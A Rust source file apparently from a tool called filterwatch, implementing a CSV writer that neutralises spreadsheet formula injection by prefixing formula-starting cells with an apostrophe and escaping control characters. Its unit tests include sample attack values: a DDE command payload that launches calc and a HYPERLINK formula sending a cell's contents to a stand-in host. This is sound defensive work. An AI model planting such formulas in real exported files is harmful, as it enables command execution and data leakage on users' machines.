//! The one CSV writer behind every CSV filterwatch writes. Log text (search terms, hosts, URLs,
//! usernames, categories) reaches these files, and a spreadsheet runs a cell that starts with
//! `=`, `+`, `-` or `@` as a formula. Following OWASP's advice on CSV injection, such a cell is
//! prefixed with `'` (a plain number such as `-3.5` is left alone), and control characters are
//! written as visible escapes ([`crate::escape`]), so no cell can start a formula with a tab or
//! carriage return or break a row apart.

use std::borrow::Cow;
use std::io::Write;

use serde::Serialize;

/// Characters that make a spreadsheet read a cell as a formula (with their full-width forms,
/// which some spreadsheets fold to ASCII).
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// A CSV writer whose every cell is neutralised.
pub struct SafeCsv<W: Write> {
    inner: csv::Writer<W>,
    headers_written: bool,
}

impl<W: Write> SafeCsv<W> {
    /// A writer into `out`.
    pub fn new(out: W) -> SafeCsv<W> {
        SafeCsv { inner: csv::Writer::from_writer(out), headers_written: false }
    }

    /// Writes one row; every cell is neutralised.
    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = cells.into_iter().map(|c| neutralise(c.as_ref()).into_owned()).collect();
        self.inner.write_record(&cells)
    }

    /// Writes a struct as a row (with a header row from its field names before the first one),
    /// neutralising every cell like [`SafeCsv::write_record`].
    pub fn serialize<T: Serialize>(&mut self, row: T) -> csv::Result<()> {
        let mut scratch = csv::WriterBuilder::new().has_headers(!self.headers_written).from_writer(Vec::new());
        scratch.serialize(row)?;
        let bytes = scratch.into_inner().map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))?;
        self.headers_written = true;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
        for record in reader.records() {
            self.write_record(record?.iter())?;
        }
        Ok(())
    }

    /// Flushes what was written.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// The cell as it is safe to write: control characters escaped, and a leading formula character
/// defused with `'` unless the cell is a plain number.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let escaped = crate::escape::text(cell);
    let starts_formula = escaped.starts_with(FORMULA_STARTS);
    if starts_formula && !is_plain_number(&escaped) {
        Cow::Owned(format!("'{escaped}"))
    } else {
        escaped
    }
}

/// A cell as [`neutralise`] wrote it, read back: the `'` put before a formula character is
/// taken off again (control-character escapes stay, as they were shown).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) && !is_plain_number(rest) => rest,
        _ => cell,
    }
}

/// `-3`, `+1.5`, `42`: a number a spreadsheet reads as a number, not a formula.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_numbers_kept() {
        assert_eq!(
            neutralise("=HYPERLINK(\"http://x/?\"&B2,\"free vpn\")"),
            "'=HYPERLINK(\"http://x/?\"&B2,\"free vpn\")"
        );
        for attack in ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1"] {
            assert!(neutralise(attack).starts_with('\''), "{attack}");
        }
        for number in ["-3", "+1.5", "42", "-0.25"] {
            assert_eq!(neutralise(number), number);
        }
        assert_eq!(neutralise("free vpn"), "free vpn");
        assert!(matches!(neutralise("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn control_characters_cannot_start_a_formula_or_split_a_row() {
        assert_eq!(neutralise("\t=1+1"), "\\t=1+1");
        assert_eq!(neutralise("\r=1+1"), "\\r=1+1");
        assert_eq!(neutralise("a\nb\x07"), "a\\nb\\x07");
    }

    #[test]
    fn every_cell_of_a_row_and_of_a_struct_is_neutralised() {
        #[derive(Serialize)]
        struct Row {
            school: String,
            change: f64,
        }
        let mut csv = SafeCsv::new(Vec::new());
        csv.serialize(Row { school: "=cmd".into(), change: -1.5 }).unwrap();
        csv.serialize(Row { school: "ok".into(), change: 2.0 }).unwrap();
        csv.write_record(["@x", "-7"]).unwrap();
        let text = String::from_utf8(csv.into_inner().unwrap()).unwrap();
        assert_eq!(text, "school,change\n'=cmd,-1.5\nok,2.0\n'@x,-7\n");
    }
}
